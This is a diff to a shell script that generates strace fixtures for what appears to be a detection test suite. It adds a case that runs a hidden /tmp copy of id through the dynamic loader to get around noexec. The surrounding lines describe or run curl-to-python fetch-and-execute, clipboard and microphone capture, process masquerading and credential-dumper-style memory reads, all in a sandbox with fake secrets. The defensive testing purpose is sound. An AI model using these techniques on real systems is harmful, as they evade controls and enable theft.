@@ -1,6 +1,6 @@
 #!/bin/bash
 # Captures testdata/formats/strace/f_tt_T_y_io_uring_exfil.txt, f_tt_T_y_container_secrets.txt,
-# f_tt_T_y_v_history_off.txt, f_tt_T_y_v_history_kept.txt, f_tt_T_y_daemon_masquerade.txt, f_tt_T_y_spy_tools.txt, f_tt_T_y_process_vm_readv.txt and f_tt_T_y_s200_pipe_to_interpreter.txt: behaviour that hides
+# f_tt_T_y_v_history_off.txt, f_tt_T_y_v_history_kept.txt, f_tt_T_y_daemon_masquerade.txt, f_tt_T_y_spy_tools.txt, f_tt_T_y_process_vm_readv.txt, f_tt_T_y_ldso_exec.txt and f_tt_T_y_s200_pipe_to_interpreter.txt: behaviour that hides
 # from a syscall trace or leaves no file behind, each run as uid 1001 in fresh pid, mount and
 # net namespaces (only `lo`; every connection goes to 127.0.0.1), a tmpfs home with FAKE
 # secrets (random text) and a tmpfs /run holding a fake Kubernetes service-account token and
@@ -23,6 +23,9 @@
 #     negative: xclip -i, a write to the clipboard.
 #   process_vm_readv: python3 forks a child, reads its /proc/PID/maps and 64 bytes of its
 #     memory with process_vm_readv (no ptrace attach: what credential dumpers use).
+#   ldso_exec: a copy of id in /tmp without its execute bit run through the dynamic loader
+#     (/lib64/ld-linux-x86-64.so.2 /tmp/.cache-id): no execve of the file, as a noexec mount
+#     or a missing x bit would refuse it.
 #   pipe_to_interpreter: a Python "updater" whose os.system runs sh -c 'curl -fsS URL |
 #     python3 -' and sh -c 'python3 -c "$(curl -fsS URL)"' against an untraced python
 #     http.server on 127.0.0.1:18556 serving a one-line stage.
@@ -80,6 +83,8 @@ run f_tt_T_y_daemon_masquerade.txt -f -tt -T -y -s 96 -- /bin/sh -c \
    /bin/bash -c "exec -a sleep /usr/bin/sleep 0.1"'
 run f_tt_T_y_spy_tools.txt -f -tt -T -y -s 96 -e trace=process,network -- /bin/sh -c \
   'DISPLAY=:0 xclip -o -selection clipboard; arecord -q -d 1 -f cd /tmp/mic.wav; DISPLAY=:0 xclip -selection clipboard -i /dev/null'
+cp /usr/bin/id /tmp/.cache-id && chmod 644 /tmp/.cache-id
+run f_tt_T_y_ldso_exec.txt -f -tt -T -y -s 96 -- /bin/sh -c '/lib64/ld-linux-x86-64.so.2 /tmp/.cache-id -u'
 cat > $H/peek.py <<'PY'
 import ctypes, os, time
 class iovec(ctypes.Structure):
